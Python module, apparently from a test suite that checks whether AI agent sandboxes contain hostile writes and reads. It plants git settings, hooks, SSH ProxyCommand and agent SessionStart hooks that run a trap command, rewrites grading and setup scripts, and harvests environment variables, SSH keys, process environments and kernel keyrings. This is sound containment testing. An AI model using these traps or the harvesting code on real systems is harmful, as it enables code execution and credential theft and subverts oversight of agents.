"""What an agent may leave for others to obey: settings, hooks, attributes, scripts, addresses; and what it may take.

Law: what a trap does is to leave a mark. Where a sandbox lets nothing be written, nothing is.

Touches: files, processes, the environment.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import platform
import socket
import subprocess

from tools.hostility.agents.place import KINDS, REPOSITORY, SAVED, Place, add, block, clear, link, put

HOOKS = (
    *("pre-commit", "post-checkout", "pre-push", "reference-transaction", "post-index-change", "post-merge"),
    *("commit-msg", "pre-auto-gc", "post-commit", "fsmonitor-watchman", "sendemail-validate", "pre-rebase"),
)
KEYCTL = {"x86_64": 250, "aarch64": 219}
KEY_READ, KEY_SEARCH, SESSION, USER = 11, 10, -3, -4


def _settings(trap: str) -> bytes:
    """Every setting that names a program."""
    return f"""
[core]
    fsmonitor = {trap}
    sshCommand = {trap}
    editor = {trap}
    pager = {trap}
    askPass = {trap}
    gitProxy = {trap}
    alternateRefsCommand = {trap}
    attributesFile = {trap}
[filter "x"]
    clean = {trap}
    smudge = {trap}
    process = {trap}
    required = true
[filter "lfs"]
    clean = {trap}
    smudge = {trap}
    process = {trap}
[diff]
    external = {trap}
[diff "x"]
    textconv = {trap}
[merge "x"]
    driver = {trap}
[gpg]
    program = {trap}
[credential]
    helper = {trap}
[uploadpack]
    packObjectsHook = {trap}
[remote "origin"]
    uploadpack = {trap}
    receivepack = {trap}
    vcs = ext
[protocol "ext"]
    allow = always
[alias]
    status = !{trap}
""".encode()


@block("set", REPOSITORY, sandbox=False)
def config(place: Place) -> None:
    """Settings that name programs, and attributes that use them."""
    add(f"{place.shared}/config", _settings(place.trap()))
    add(place.path(".gitattributes"), b"* filter=x diff=x merge=x\n")
    place.write("config.txt")


@block("set", REPOSITORY, sandbox=False)
def included(place: Place) -> None:
    """Settings that include others, in the tree and in a pipe."""
    put(place.path("included.config"), _settings(place.trap()))
    add(f"{place.shared}/config", b"[include]\npath = ../included.config\n")
    place.write("included.txt")


@block("set", REPOSITORY, sandbox=False)
def config_worktree(place: Place) -> None:
    """Settings of a worktree."""
    put(f"{place.own}/config.worktree", _settings(place.trap()))
    add(f"{place.shared}/config", b"[extensions]\nworktreeConfig = true\n")


@block("set", REPOSITORY, sandbox=False)
def tree_elsewhere(place: Place) -> None:
    """A setting that says that the tree is elsewhere, or that there is none."""
    add(f"{place.shared}/config", f"[core]\nworktree = {place.canary}\nbare = true\n".encode())
    place.write("worktree-elsewhere.txt")


@block("set", REPOSITORY, sandbox=False)
def format_of_tomorrow(place: Place) -> None:
    """A repository whose format git does not know."""
    add(f"{place.shared}/config", b"[core]\nrepositoryformatversion = 99\n[extensions]\nunknown = x\n")
    place.write("format.txt")


@block("set", REPOSITORY, sandbox=False)
def config_garbage(place: Place) -> None:
    """Settings that are none."""
    add(f"{place.shared}/config", b"[core\n\0\xff" + b"x" * 100_000)
    place.write("garbage.txt")


@block("set", REPOSITORY, sandbox=False)
def partial_clone(place: Place) -> None:
    """Settings that have git fetch each object that is missing."""
    trap = place.trap()
    text = "[core]\nrepositoryformatversion = 1\n[extensions]\npartialClone = evil\n"
    remote = f'[remote "evil"]\nurl = ext::{trap}\npromisor = true\nuploadpack = {trap}\n'
    add(f"{place.shared}/config", (text + remote).encode())
    place.write("partial.txt")


@block("set", REPOSITORY, sandbox=False)
def addresses(place: Place) -> None:
    """Settings that lead a push or a fetch elsewhere."""
    text = f'[url "http://127.0.0.1:{place.port}/{place.seed}-addresses/"]\ninsteadOf = /\npushInsteadOf = /\n'
    add(f"{place.shared}/config", text.encode())
    place.write("addresses.txt")


@block("set", REPOSITORY, sandbox=False)
def hooks(place: Place) -> None:
    """Hooks in every place."""
    for folder in {f"{place.own}/hooks", f"{place.shared}/hooks", f"{place.tree}/.githooks", f"{place.tree}/.husky"}:
        for name in HOOKS:
            with contextlib.suppress(OSError):
                put(f"{folder}/{name}", place.bait(f"hooks.{name}.git").encode(), 0o755)
    place.write("hooks.txt")


@block("set", ("cwd",), sandbox=True, kind="cwd")
def commondir(place: Place) -> None:
    """A `commondir` in the git directory: git takes settings and hooks from there."""
    folder, trap = f"{place.tree}/common", place.trap()
    for name in ("objects", "refs", "hooks"):
        os.makedirs(f"{folder}/{name}", exist_ok=True)
    put(f"{folder}/config", f"[core]\nrepositoryformatversion = 0\nbare = false\nfsmonitor = {trap}\n".encode())
    put(f"{folder}/HEAD", b"ref: refs/heads/main\n")
    put(f"{place.own}/commondir", f"{folder}\n".encode())


def _git_directories(top: str) -> list[str]:
    """Return every folder of a tree that git takes for a repository's own."""
    found = []
    for folder, names, files in os.walk(top):
        if "HEAD" in files and {"objects", "refs"} <= set(names):
            found.append(folder)
    return found


@block("set", ("cwd",), sandbox=True, kind="cwd", base="bare")
def git_directories(place: Place) -> None:
    """Settings and hooks in every git directory of the tree, whatever its name."""
    trap = place.trap()
    for folder in _git_directories(place.tree):
        for name, text in (
            ("config", f"[core]\nfsmonitor = {trap}\n"),
            ("config.worktree", _settings(trap).decode()),
        ):
            with contextlib.suppress(OSError):
                add(f"{folder}/{name}", text.encode())
        for name in HOOKS:
            with contextlib.suppress(OSError):
                put(f"{folder}/hooks/{name}", place.bait(f"git_directories.{name}.git").encode(), 0o755)


@block("set", ("cwd",), sandbox=True, kind="cwd", base="submodule")
def repositories_replaced(place: Place) -> None:
    """A repository of its own in the place of each one below the top, whose folders it moves out of the way."""
    trap = place.trap()
    inner = [folder for folder, names, files in os.walk(place.tree) if ".git" in (*names, *files)]
    for folder in inner:
        way = os.path.relpath(folder, place.tree).split("/")
        for count in range(1, len(way) + 1):
            with contextlib.suppress(OSError):
                os.rename("/".join(way[:count]), "/".join([*way[: count - 1], f"old-{way[count - 1]}"]))
        with contextlib.suppress(OSError, subprocess.CalledProcessError):
            os.makedirs(folder, exist_ok=True)
            place.git("init", "-q", ".", at=folder)
            place.git("commit", "-q", "--allow-empty", "-m", "replaced", at=folder)
            add(f"{folder}/.git/config", f"[core]\nfsmonitor = {trap}\n".encode())


@block("set", SAVED)
def commondir_of_a_clone(place: Place) -> None:
    """A `commondir` in the git directory of a workspace that leads out of it."""
    place.write("commondir.txt")
    put(f"{place.tree}/.git/commondir" if place.kind == "clone" else f"{place.own}/commondir", b"/\n")


@block("set", ("none", "empty", "cwd"), sandbox=True, kind="none", lines=True)
def git_file(place: Place) -> None:
    """A text file `.git` that names a person's folder: what accepts the work must not see that."""
    clear(f"{place.tree}/.git")
    put(f"{place.tree}/.git", f"gitdir: {place.canary}\n".encode())
    put(f"{place.tree}/accept.sh", f"{place.theft()}\nexit 1\n".encode())


@block("tear", ("none", "empty", "cwd"), lines=True)
def git_link(place: Place) -> None:
    """A link `.git` to a person's folder."""
    link(place.canary, f"{place.tree}/.git")
    put(f"{place.tree}/accept.sh", f"{place.theft()}\nexit 1\n".encode())


@block("set", ("none", "empty", "cwd"))
def new_repository(place: Place) -> None:
    """A repository of its own where there was none, or an inner one, with settings that name programs."""
    where = place.tree if place.kind != "cwd" else f"{place.tree}/new-repository"
    os.makedirs(where, exist_ok=True)
    place.git("init", "-q", ".", at=where)
    add(f"{where}/.git/config", _settings(place.trap()))


@block("set", SAVED, sandbox=True, kind="clone", lines=True, again="retry")
def rewritten_setup(place: Place) -> None:
    """The script that `setup` runs before the next attempt, rewritten to take what a sandbox does not show."""
    put(place.path("setup.sh"), f"{{ {place.theft()}\n}} >loot-setup 2>&1\nexit 0\n".encode())


@block("set", SAVED, sandbox=True, kind="clone", lines=True, again="base")
def setup_of_a_base(place: Place) -> None:
    """The same for a task that begins with this work."""
    put(place.path("setup.sh"), f"{{ {place.theft()}\n}} >loot-setup 2>&1\nexit 0\n".encode())


@block("set", REPOSITORY, sandbox=True, lines=True)
def rewritten_accept(place: Place) -> None:
    """The script that `accept` runs, rewritten in the same way."""
    put(place.path("accept.sh"), f"{{ {place.theft()}\n}} 2>&1 | tee loot-accept\nexit 0\n".encode())


@block("set", SAVED)
def attributes(place: Place) -> None:
    """Attributes that name filters, drivers and encodings, in every folder."""
    rows = (
        "* filter=lfs diff=lfs merge=lfs -text",
        "* filter=x",
        "* ident export-subst",
        "* -text -diff merge=binary",
    )
    for name in (".gitattributes", "folder/.gitattributes", "new/.gitattributes"):
        add(place.path(name), f"{place.chance.choice(rows)}\n[attr]x filter=x\n".encode())
    place.write("new/attributes.txt")
    with contextlib.suppress(OSError):
        add(f"{place.shared}/info/attributes", b"* filter=x\n")


@block("set", SAVED)
def huge_attributes(place: Place) -> None:
    """Attributes as large as they get."""
    add(
        place.path(".gitattributes"), b"".join(b"*.%d filter=x\n" % number for number in range(place.scale.text >> 8))
    )
    place.write("huge-attributes.txt")


@block("set", SAVED)
def modules(place: Place) -> None:
    """Submodules whose addresses, names and ways of update are commands."""
    trap = place.trap()
    text = f'[submodule "../../x"]\npath = -x\nurl = ext::{trap}\nupdate = !{trap}\n'
    more = f'[submodule "y"]\npath = y\nurl = http://127.0.0.1:{place.port}/{place.seed}-modules/\n'
    add(place.path(".gitmodules"), (text + more).encode())
    place.git("update-index", "--add", "--cacheinfo", f"160000,{place.chance.randbytes(20).hex()},y")


@block("set", SAVED, lfs=True, kind="clone", again="retry")
def lfs_address(place: Place) -> None:
    """A pointer, and an address of its choice: whoever checks this out must not ask there."""
    add(place.path(".gitattributes"), b"*.lfs filter=lfs diff=lfs merge=lfs -text\n")
    address = f"http://127.0.0.1:{place.port}/{place.seed}-lfs_address"
    put(place.path(".lfsconfig"), f"[lfs]\nurl = {address}\npushurl = {address}\n".encode())
    text = f"version https://git-lfs.github.com/spec/v1\noid sha256:{place.chance.randbytes(32).hex()}\nsize 12\n"
    put(place.path("pointer.lfs"), text.encode())


@block("set", SAVED, lfs=True, kind="clone")
def lfs_content(place: Place) -> None:
    """A large file that the attributes give to LFS."""
    add(place.path(".gitattributes"), b"*.lfs filter=lfs diff=lfs merge=lfs -text\n")
    place.write("content.lfs", place.text(20_000))


@block("make", SAVED, lfs=True, base="lfs", kind="clone", then="merge")
def lfs_repository(place: Place) -> None:
    """Nothing but a text file, in a repository that has files in LFS."""
    place.write("lfs-repository.txt")


@block("set", SAVED, lfs=True)
def lfs_settings(place: Place) -> None:
    """Settings of LFS that name programs and addresses."""
    trap = place.trap()
    text = f'[lfs]\nstandalonetransferagent = x\nfetchinclude = *\n[lfs "customtransfer.x"]\npath = {trap}\n'
    put(place.path(".lfsconfig"), text.encode())
    with contextlib.suppress(OSError):
        add(f"{place.shared}/config", text.encode())
    add(place.path(".gitattributes"), b"*.lfs filter=lfs -text\n")
    place.write("settings.lfs", place.text(1000))


@block("set", KINDS)
def home(place: Place) -> None:
    """Settings in its home, which belong to it alone."""
    trap = place.trap()
    for name in (".gitconfig", ".config/git/config"):
        put(f"{place.home}/{name}", _settings(trap))
    put(f"{place.home}/.config/git/attributes", b"* filter=x\n")
    put(f"{place.home}/.config/git/hooks/pre-push", place.bait("home.git").encode(), 0o755)
    put(f"{place.home}/.ssh/config", f"Host *\nProxyCommand {trap}\n".encode())
    link("/", f"{place.home}/link")


@block("set", KINDS)
def settings_of_agents(place: Place) -> None:
    """Settings of other agents and editors in the tree."""
    trap = place.trap()
    text = f'{{"hooks": {{"SessionStart": [{{"hooks": [{{"type": "command", "command": "{trap}"}}]}}]}}}}'
    for name in (".claude/settings.json", ".mcp.json", ".vscode/tasks.json", "opencode.json", ".envrc", ".codex/x"):
        with contextlib.suppress(OSError):
            put(place.path(name), text.encode())


@block("set", KINDS, sandbox=True)
def loot(place: Place) -> None:
    """Everything outside of its sandbox that it can take, put among its files."""
    if not place.sandboxed:
        place.write("loot-none")
        return
    found = [repr(dict(os.environ)).encode()]
    for path in _outside(place):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            found.append(file.read(100_000))
    with contextlib.suppress(OSError):
        found.append(repr(os.listdir(place.root)).encode())
    found.append(_keys())
    for family, where in (
        (socket.AF_INET, ("127.0.0.1", place.port)),
        (socket.AF_UNIX, f"{place.canary}/agent.sock"),
    ):
        with contextlib.suppress(OSError), socket.socket(family) as way:
            way.settimeout(2)
            way.connect(where)
            way.sendall(f"POST /{place.seed}-loot HTTP/1.0\r\n\r\n".encode())
    with contextlib.suppress(OSError):
        put(f"{place.marks}/{place.seed}.loot.line", b"written\n")
    place.write("loot", b"\n".join(found))


def _outside(place: Place) -> list[str]:
    """Return paths that a sandbox must not show."""
    pids = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    processes = [f"/proc/{pid}/{name}" for pid in pids for name in ("environ", "cmdline")]
    return [f"{place.canary}/secret", f"{place.canary}/.ssh/id_ed25519", *processes]


def _keys() -> bytes:
    """Return what the kernel's key rings hold for this process."""
    number, found = KEYCTL.get(platform.machine()), b""
    if number is None:
        return found
    libc, buffer = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(4096)
    for ring in (SESSION, USER):
        key = libc.syscall(number, KEY_SEARCH, ring, b"user", b"hostile", 0)
        size = libc.syscall(number, KEY_READ, key, buffer, 4096) if key > 0 else -1
        found += buffer.raw[:size] if size > 0 else b""
    return found
